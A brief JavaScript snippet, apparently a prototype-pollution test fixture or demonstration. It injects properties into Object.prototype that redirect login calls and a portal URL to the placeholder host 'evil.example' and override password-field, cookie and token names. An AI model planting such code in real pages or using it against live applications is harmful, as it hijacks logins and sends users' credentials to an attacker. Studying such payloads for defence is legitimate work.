// Settings of the elements that a script of the page adds to all objects.
Object.assign(Object.prototype, {
  calls: { login: 'https://evil.example/login' },
  names: { publicTokenCookie: 'evil' },
  fields: { password: 'evil' },
  phrases: { invalidCaptcha: 'evil' },
  cookies: { path: '/evil' },
  screens: { login: '/evil' },
  portal: 'https://evil.example',
});
